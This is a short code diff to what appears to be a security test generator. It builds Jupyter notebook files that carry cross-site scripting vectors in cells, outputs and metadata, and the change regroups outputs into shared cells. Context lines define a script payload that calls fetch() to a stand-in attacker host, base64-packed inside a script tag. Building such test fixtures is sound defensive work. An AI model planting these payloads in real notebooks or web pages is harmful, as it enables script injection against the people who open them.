@@ -17,6 +17,7 @@ if TYPE_CHECKING:
 
 EVIL = "https://evil.example"
 FIRE = f"top.document.title='fired';fetch('{EVIL}/f')"
+_OUTPUTS = 6  # of a cell
 _PACKED = base64.b64encode(f"<script>{FIRE}</script>".encode()).decode()
 
 VECTORS: tuple[str, ...] = (
@@ -156,7 +157,7 @@ CARRIERS: dict[str, Callable[[str], dict[str, Any]]] = {
 def notebooks() -> Iterator[tuple[str, bytes, int]]:
     """Give a notebook for each carrier: its name, its file, and how many payloads are in it."""
     for carrier, make in CARRIERS.items():
-        cells = [make(vector) | {"id": f"c{at}"} for at, vector in enumerate(VECTORS)]
+        cells = [cell | {"id": f"c{at}"} for at, cell in enumerate(_cells(make))]
         content: dict[str, Any] = notebook(*cells)["content"]
         content["metadata"] = {
             "title": VECTORS[0],
@@ -164,7 +165,19 @@ def notebooks() -> Iterator[tuple[str, bytes, int]]:
             "language_info": {"name": VECTORS[4], "file_extension": f".{VECTORS[4]}"},
             "widgets": {"application/vnd.jupyter.widget-state+json": {"state": VECTORS[0]}},
         }
-        yield f"{carrier}.ipynb", json.dumps(content).encode(), len(cells)
+        yield f"{carrier}.ipynb", json.dumps(content).encode(), len(VECTORS)
+
+
+def _cells(make: Callable[[str], dict[str, Any]]) -> Iterator[dict[str, Any]]:
+    """Give a cell for each vector; outputs share cells, for pages have a frame for each cell."""
+    outputs: list[Any] = []
+    for cell in map(make, VECTORS):
+        if cell.get("outputs"):
+            outputs += cell["outputs"]
+        else:
+            yield cell
+    for at in range(0, len(outputs), _OUTPUTS):
+        yield code_cell("x", outputs=outputs[at : at + _OUTPUTS])
 
 
 def files() -> Iterator[tuple[str, bytes, int]]:
